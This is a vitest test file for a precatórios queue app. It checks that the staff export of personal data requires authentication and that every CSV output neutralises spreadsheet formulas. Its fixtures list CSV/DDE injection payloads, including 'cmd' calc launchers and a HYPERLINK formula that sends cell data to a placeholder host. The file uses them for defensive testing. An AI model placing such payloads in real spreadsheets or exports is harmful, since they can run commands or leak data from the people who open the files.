// Goal: list exports. The public CSV/JSON stay masked; the export WITH personal data is staff-only
// (401/403 otherwise), uncached and logged. Every CSV the project writes — both API exports and
// `precatorios fila --formato csv` — goes through one cell writer that neutralises spreadsheet
// formulas (OWASP: a cell starting with =, +, -, @, tab or CR gets a leading ').
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/cli/output.ts';
import type { Precatorio } from '../../src/domain/precatorio.ts';
import type { Db } from '../../src/storage/db.ts';
import { openDatabase } from '../../src/storage/open-db.ts';
import { staffHeaders } from '../support/api.ts';
import { GENERATED_ENTE, appOver, peopleRegistryArb, seed } from './fixtures.ts';

/** Text that a spreadsheet would run as a formula (the classic DDE payload among them). */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://exemplo.invalid/?x="&A1,"clique")',
];
const TRIGGER = /^[=+\-@\t\r]/;
/** What the writer must turn a cell into. */
const neutralised = (cell: string) => (TRIGGER.test(cell) ? `'${cell}` : cell);

const ENTE = GENERATED_ENTE(2);
let db: Db;
let ctx: ReturnType<typeof appOver>;
let precatorios: Precatorio[];

beforeAll(async () => {
  db = await openDatabase({ pgliteDir: 'memory://' });
  const [generated] = fc.sample(peopleRegistryArb(ENTE, 8, 100), { seed: 11, numRuns: 1 });
  // Hostile números and names, as a court's legacy numbers or a careless registration could bring.
  const hostile = FORMULAS.map((formula, i): Precatorio => {
    const base = generated![i % generated!.length]!;
    return { ...base, numero: formula, beneficiarios: base.beneficiarios.map((b) => ({ ...b, id: `${formula}#${b.id}`, nome: formula, cpf: `+${b.cpf}` })) };
  });
  precatorios = [...generated!, ...hostile];
  await seed(db, [ENTE], precatorios);
  ctx = appOver(db);
}, 60_000);
afterAll(async () => {
  await db.close();
});

const csvCells = (text: string): string[][] => parse(text, { relax_column_count: false });

describe('staff export with personal data', () => {
  it('answers 401 without a token and 403 with a wrong one, for CSV and JSON', async () => {
    for (const file of ['fila-completa.csv', 'fila-completa.json']) {
      expect((await ctx.app.request(`/api/entes/${ENTE.id}/${file}`)).status).toBe(401);
      expect((await ctx.app.request(`/api/entes/${ENTE.id}/${file}`, { headers: { authorization: 'Bearer errado' } })).status).toBe(403);
    }
  });

  it('gives staff one row per beneficiary of the list with name, CPF/CNPJ, birth and illness dates; not cached; logged with who asked', async () => {
    const res = await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.json`, { headers: staffHeaders });
    expect(res.status).toBe(200);
    expect(res.headers.get('cache-control')).toBe('no-store');
    const { itens } = (await res.json()) as { itens: Record<string, string>[] };
    const listed = precatorios.filter((p) => p.status === 'ativo' || p.status === 'suspenso');
    expect(itens).toHaveLength(listed.reduce((n, p) => n + p.beneficiarios.length, 0));
    for (const p of listed) {
      for (const b of p.beneficiarios) {
        const row = itens.find((r) => r['numero'] === p.numero && r['beneficiario_id'] === b.id)!;
        expect(row).toMatchObject({
          nome: b.nome,
          cpf: b.cpf,
          nascimento: b.nascimento,
          doenca_grave_desde: b.doencaGraveDesde ?? '',
          deficiencia_desde: b.deficienciaDesde ?? '',
          valor: b.valorBrl.toFixed(2),
          pago: b.pagoBrl.toFixed(2),
        });
      }
    }
    // The superpreference ground is there for staff (and only here).
    expect(itens.some((r) => r['superpreferencia_motivo'] === 'doenca-grave' || r['superpreferencia_motivo'] === 'idade')).toBe(true);
    expect(ctx.logs.at(-1)).toBe(`[api] exportação com dados pessoais: ente ${ENTE.id}, ${itens.length} beneficiários, JSON, por administrador`);
  });

  it('CSV and JSON carry the same rows, the CSV with formulas neutralised', async () => {
    const json = (await (await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.json`, { headers: staffHeaders })).json()) as {
      itens: Record<string, string>[];
    };
    const res = await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.csv`, { headers: staffHeaders });
    expect(res.headers.get('content-type')).toContain('text/csv');
    const [header, ...rows] = csvCells(await res.text());
    expect(rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])))).toEqual(
      json.itens.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, neutralised(v)]))),
    );
  });
});

describe('formula injection in CSV', () => {
  it('the public export neutralises hostile números; the staff export hostile names, ids and documents too', async () => {
    const publicCsv: string[][] = parse(await (await ctx.app.request(`/api/entes/${ENTE.id}/fila.csv`)).text(), { delimiter: ';', bom: true });
    const staffCsv = csvCells(await (await ctx.app.request(`/api/entes/${ENTE.id}/fila-completa.csv`, { headers: staffHeaders })).text());
    for (const csv of [publicCsv, staffCsv]) {
      const numeroColumn = csv[0]!.indexOf('numero');
      const numeros = csv.slice(1).map((r) => r[numeroColumn]!);
      for (const formula of FORMULAS) expect(numeros).toContain(`'${formula}`);
      expect(csv.flat().filter((cell) => TRIGGER.test(cell))).toEqual([]);
    }
    const nomes = staffCsv.slice(1).map((r) => r[staffCsv[0]!.indexOf('nome')]!);
    for (const formula of FORMULAS) expect(nomes).toContain(`'${formula}`);
    const documentos = staffCsv.slice(1).map((r) => r[staffCsv[0]!.indexOf('cpf')]!);
    for (const p of precatorios.filter((x) => FORMULAS.includes(x.numero))) for (const b of p.beneficiarios) expect(documentos).toContain(`'${b.cpf}`);
  });

  it('law (fast-check): for any cells, parsing the written CSV gives back each cell, neutralised — and no parsed cell starts a formula', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1', ' '), maxLength: 10 }),
      fc.constantFrom(...FORMULAS),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 6 }), (rows) => {
        const width = rows[0]!.length;
        const table = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
        const parsed = csvCells(toCsv(table));
        expect(parsed).toEqual(table.map((r) => r.map(neutralised)));
        expect(parsed.flat().some((c) => TRIGGER.test(c))).toBe(false);
      }),
      { seed: 20251123, numRuns: 1_500 },
    );
  });

  it('precatorios fila --formato csv writes hostile legacy números neutralised (same writer)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'fila-formula-'));
    try {
      const file = join(dir, 'lista.csv');
      const header = 'numero,ente_id,esfera,regime,natureza,apresentado_em,valor_requisitado';
      const quote = (t: string) => `"${t.replace(/"/g, '""')}"`;
      writeFileSync(
        file,
        `${header}\n${FORMULAS.slice(0, 4)
          .map((f, i) => `${quote(f)},municipio-x,municipal,geral,comum,2024-0${i + 1}-10 10:00,${1000 + i}.00`)
          .join('\n')}\n`,
      );
      const bin = fileURLToPath(new URL('../../bin/precatorios.mjs', import.meta.url));
      const out = spawnSync(process.execPath, [bin, 'fila', file, '--formato', 'csv', '--data', '2025-11-23'], { encoding: 'utf8' });
      expect(out.stderr).toBe('');
      const csv = csvCells(out.stdout);
      expect(
        csv
          .slice(1)
          .map((r) => r[csv[0]!.indexOf('numero')])
          .sort(),
      ).toEqual(
        FORMULAS.slice(0, 4)
          .map((f) => `'${f}`)
          .sort(),
      );
      expect(csv.flat().filter((c) => TRIGGER.test(c))).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
